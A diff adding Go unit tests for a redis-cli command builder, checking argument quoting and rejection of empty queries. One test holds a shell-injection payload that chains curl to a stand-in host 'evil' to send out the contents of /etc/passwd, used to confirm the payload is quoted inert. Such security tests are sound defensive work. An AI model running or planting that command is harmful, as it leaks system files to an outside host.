@@ -0,0 +1,37 @@
+package tools
+
+import "testing"
+
+func TestBuildDBCommandRedisQuotesEachArg(t *testing.T) {
+	runtime := execRuntime{kind: "local"}
+	cmd, err := buildDBCommand(runtime, "redis", "GET foo", "", "", "", 0, nil)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	want := "redis-cli 'GET' 'foo' 2>&1"
+	if cmd != want {
+		t.Fatalf("got %q, want %q", cmd, want)
+	}
+}
+
+func TestBuildDBCommandRedisRejectsShellInjection(t *testing.T) {
+	runtime := execRuntime{kind: "local"}
+	cmd, err := buildDBCommand(runtime, "redis", "GET foo; curl evil/$(cat /etc/passwd)", "", "", "", 0, nil)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	// Every token must be individually quoted, so the shell metacharacters
+	// land inside single-quoted strings (inert to the remote shell) rather
+	// than splicing a second command into bin.
+	want := `redis-cli 'GET' 'foo;' 'curl' 'evil/$(cat' '/etc/passwd)' 2>&1`
+	if cmd != want {
+		t.Fatalf("SECURITY FAIL: shell metacharacters reached bin unquoted: got %q, want %q", cmd, want)
+	}
+}
+
+func TestBuildDBCommandRedisRejectsEmptyQuery(t *testing.T) {
+	runtime := execRuntime{kind: "local"}
+	if _, err := buildDBCommand(runtime, "redis", "   ", "", "", "", 0, nil); err == nil {
+		t.Fatal("expected an error for an empty redis query")
+	}
+}